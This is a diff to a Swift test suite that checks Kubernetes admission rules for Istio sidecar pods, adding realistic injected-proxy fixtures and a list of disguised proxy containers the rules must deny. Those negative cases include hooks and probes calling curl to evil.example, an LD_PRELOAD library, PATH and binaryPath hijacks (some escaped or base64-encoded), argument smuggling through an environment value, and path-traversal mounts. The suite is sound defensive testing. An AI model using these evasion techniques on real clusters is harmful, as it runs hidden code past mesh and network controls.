@@ -59,15 +59,59 @@ struct KubernetesPeerTests {
         ].merging(change) { $1 }
     }
 
+    /// The proxy as injection writes it (Istio 1.26).
     private static var proxy: [String: Any] {
-        [
+        let field = { (name: String, path: String) -> [String: Any] in
+            ["name": name, "valueFrom": ["fieldRef": ["fieldPath": path]]]
+        }
+        let probe: [String: Any] = ["httpGet": ["path": "/healthz/ready", "port": 15021], "periodSeconds": 15]
+        let mounts = [
+            ["name": "workload-socket", "mountPath": "/var/run/secrets/workload-spiffe-uds"],
+            ["name": "credential-socket", "mountPath": "/var/run/secrets/credential-uds"],
+            ["name": "workload-certs", "mountPath": "/var/run/secrets/workload-spiffe-credentials"],
+            ["name": "istiod-ca-cert", "mountPath": "/var/run/secrets/istio"],
+            ["name": "istio-data", "mountPath": "/var/lib/istio/data"],
+            ["name": "istio-envoy", "mountPath": "/etc/istio/proxy"],
+            ["name": "istio-token", "mountPath": "/var/run/secrets/tokens"],
+            ["name": "istio-podinfo", "mountPath": "/etc/istio/pod"],
+            ["name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"],
+        ]
+        return [
             "name": "istio-proxy", "image": "docker.io/istio/proxyv2:1.26.0",
-            "args": ["proxy", "sidecar", "--domain", "x"],
+            "args": [
+                "proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning",
+                "--proxyComponentLogLevel=misc:error", "--log_output_level=default:info", "--concurrency", "2",
+            ],
             "securityContext": [
                 "allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]], "runAsUser": 1337,
                 "runAsGroup": 1337,
             ],
+            "startupProbe": probe, "readinessProbe": probe, "volumeMounts": mounts,
+            "env": [
+                ["name": "PILOT_CERT_PROVIDER", "value": "istiod"],
+                ["name": "CA_ADDR", "value": "istiod.istio-system.svc:15012"], field("POD_NAME", "metadata.name"),
+                field("POD_NAMESPACE", "metadata.namespace"), field("INSTANCE_IP", "status.podIP"),
+                ["name": "PROXY_CONFIG", "value": "{}\n"], ["name": "ISTIO_META_POD_PORTS", "value": "[\n]"],
+                ["name": "TRUST_DOMAIN", "value": "cluster.local"], ["name": "ISTIO_META_NETWORK"],
+            ],
         ]
+    }
+
+    /// The proxy with something else, as whoever writes the pod may have it.
+    private static func proxy(_ change: [String: Any]) -> [String: Any] {
+        pod(containers: [container("app"), proxy.merging(change) { $1 }])
+    }
+
+    private static func hook(_ name: String, _ command: [String]) -> [String: Any] {
+        proxy(["lifecycle": [name: ["exec": ["command": command]]]])
+    }
+
+    private static func environment(_ name: String, _ value: String) -> [String: Any] {
+        proxy(["env": [["name": name, "value": value]]])
+    }
+
+    private static func mounted(_ name: String, _ path: String) -> [String: Any] {
+        proxy(["volumeMounts": [["name": name, "mountPath": path]]])
     }
 
     /// A pod of inference as it is after injection by Istio with its CNI plugin.
@@ -79,8 +123,14 @@ struct KubernetesPeerTests {
         namespace: String = "ml-inference"
     ) -> [String: Any] {
         let validation = proxy.merging([
-            "name": "istio-validation", "args": ["istio-iptables", "--run-validation"],
-        ]) { $1 }
+            "name": "istio-validation",
+            "args": [
+                "istio-iptables", "-p", "15001", "-z", "15006", "-u", "1337", "-m", "REDIRECT", "-i", "*", "-x", "",
+                "-b",
+                "*", "-d", "15090,15021,15020", "--log_output_level=default:info", "--run-validation",
+                "--skip-rule-apply",
+            ],
+        ]) { $1 }.filter { !["startupProbe", "readinessProbe", "env"].contains($0.key) }
         let injected = [
             "sidecar.istio.io/status": "{}", "sidecar.istio.io/interceptionMode": "REDIRECT",
             "traffic.sidecar.istio.io/excludeInboundPorts": "15020",
@@ -89,7 +139,9 @@ struct KubernetesPeerTests {
         ]
         let base: [String: Any] = [
             "serviceAccountName": "inference-service", "containers": containers, "initContainers": [validation],
-            "volumes": [["name": "istio-envoy", "emptyDir": ["medium": "Memory"]]],
+            "volumes": [
+                ["name": "istio-envoy", "emptyDir": ["medium": "Memory"]], ["name": "istio-data", "emptyDir": [:]],
+            ],
         ]
         return [
             "namespace": namespace,
@@ -132,6 +184,82 @@ struct KubernetesPeerTests {
                         sound.merging(["capabilities": ["drop": ["ALL"], "add": ["NET_BIND_SERVICE"]]]) { $1 }
                     )
                 )
+            ),
+        ]
+    }
+
+    /// What else injection writes, as it is set up.
+    private static var injected: [(String, [String: Any])] {
+        let settings = #"{"proxyStatsMatcher": {"inclusionRegexps": ["a\\.b", "\u003cx"]}, "concurrency": 2}"#
+        return [
+            ("holding the application", hook("postStart", ["pilot-agent", "wait"])),
+            (
+                "drained as a native sidecar",
+                hook("preStop", ["pilot-agent", "request", "--debug-port=15020", "POST", "drain"])
+            ), ("a pause before the end", proxy(["lifecycle": ["preStop": ["sleep": ["seconds": 5]]]])),
+            ("with settings", environment("PROXY_CONFIG", settings)),
+            ("with metadata", environment("ISTIO_META_DNS_CAPTURE", "true")),
+            ("with certificates", mounted("istio-certs", "/etc/certs/")),
+            ("without mounts", proxy(["volumeMounts": []])),
+        ]
+    }
+
+    /// Ways to run something of one's own as the proxy, whose packets nothing redirects.
+    private static var disguised: [(String, [String: Any])] {
+        let arguments = proxy["args"] as? [String] ?? []
+        let shell = ["exec": ["command": ["curl", "evil.example"]]]
+        let mounts: [[String: Any]] = [["name": "istio-envoy", "mountPath": "/x"]]
+        return [
+            ("a hook after the start", hook("postStart", ["curl", "evil.example"])),
+            ("a hook before the end", hook("preStop", ["sh", "-c", "curl evil.example"])),
+            ("a hook that asks elsewhere", hook("postStart", ["pilot-agent", "wait", "--url", "http://evil.example"])),
+            ("a hook with another request", hook("preStop", ["pilot-agent", "request", "GET", "config_dump"])),
+            ("a hook of the agent's alone", hook("preStop", ["pilot-agent"])),
+            ("a hook without a command", proxy(["lifecycle": ["preStop": ["exec": [:]]]])),
+            ("a liveness probe", proxy(["livenessProbe": shell])),
+            ("a readiness probe", proxy(["readinessProbe": shell])),
+            ("a startup probe", proxy(["startupProbe": shell])),
+            (
+                "a probe of validation",
+                pod(spec: [
+                    "initContainers": [
+                        proxy.merging([
+                            "name": "istio-validation", "args": ["istio-iptables", "-p"], "livenessProbe": shell,
+                        ]) {
+                            $1
+                        }
+                    ]
+                ])
+            ),
+            (
+                "validation with other arguments",
+                pod(spec: [
+                    "initContainers": [proxy.merging(["name": "istio-validation", "args": ["wait", "--url"]]) { $1 }]
+                ])
+            ), ("a template", proxy(["args": arguments + ["--templateFile=/var/run/secrets/x/y"]])),
+            ("a template in two", proxy(["args": arguments + ["--templateFile", "/var/run/secrets/x/y"]])),
+            ("settings of the mesh", proxy(["args": arguments + ["--meshConfig=/var/run/secrets/x/y"]])),
+            ("an argument from the environment", proxy(["args": arguments + ["$(X)"]])),
+            ("another directory", proxy(["workingDir": "/var/run/secrets/x"])),
+            ("a library", environment("LD_PRELOAD", "/var/run/secrets/x/y.so")), ("a path", environment("PATH", "/x")),
+            ("a bootstrap", environment("ISTIO_BOOTSTRAP_OVERRIDE", "/x")),
+            ("another Envoy", environment("PROXY_CONFIG", #"{"binaryPath": "/usr/bin/curl"}"#)),
+            ("another Envoy, escaped", environment("PROXY_CONFIG", #"{"binary\u0050ath": "/usr/bin/curl"}"#)),
+            ("another Envoy, in base64", environment("PROXY_CONFIG", "!!binary YmluYXJ5UGF0aA==: /usr/bin/curl")),
+            ("another bootstrap", environment("PROXY_CONFIG", "custom_config_file: /x")),
+            ("a namespace that is an argument", environment("POD_NAMESPACE", "--templateFile=/x")),
+            (
+                "settings from elsewhere",
+                proxy(["env": [["name": "PROXY_CONFIG", "valueFrom": ["configMapKeyRef": ["name": "x", "key": "y"]]]]])
+            ), ("an environment from elsewhere", proxy(["envFrom": [["configMapRef": ["name": "x"]]]])),
+            ("programs", mounted("x", "/usr/local/bin")),
+            ("programs by a detour", mounted("x", "/var/run/secrets/../../bin")),
+            ("settings that are mounted", mounted("x", "/etc/istio/proxy")),
+            ("a device", proxy(["volumeDevices": [["name": "x", "devicePath": "/x"]]])),
+            ("the proxy's settings", pod(containers: app(sound, ["volumeMounts": mounts]))),
+            (
+                "the proxy's settings from elsewhere",
+                pod(spec: ["volumes": [["name": "istio-envoy", "configMap": ["name": "x"]]]])
             ),
         ]
     }
@@ -214,13 +342,17 @@ struct KubernetesPeerTests {
     @Test("the admission rules let sound pods in, and keep each way around network and mesh out")
     func admission() throws {
         let elsewhere = Self.pod(spec: ["hostNetwork": true], labels: [:], namespace: "elsewhere")
-        let (good, bad) = (Self.good, Self.bad)
+        let (good, bad) = (Self.good + Self.injected, Self.bad + Self.disguised)
         let answer = try Self.judge(try ClusterEstate.load(), (good + bad).map(\.1) + [elsewhere])
         #expect(answer.denials.count == good.count + bad.count + 1)
         for (case_, denials) in zip(good, answer.denials) { #expect(denials == [], "\(case_.0)") }
         for (case_, denials) in zip(bad, answer.denials.dropFirst(good.count)) {
             #expect(!denials.isEmpty, "\(case_.0)")
             #expect(!denials.contains { $0.hasPrefix("error") }, "\(case_.0): \(denials)")
+        }
+        // These are kept out by the rules about the proxy alone.
+        for (case_, denials) in zip(Self.disguised, answer.denials.dropFirst(good.count + Self.bad.count)) {
+            #expect(denials.count == 1 && denials[0].contains("istio-"), "\(case_.0): \(denials)")
         }
         // What is in no namespace of the estate is not its matter.
         #expect(answer.denials.last == [])
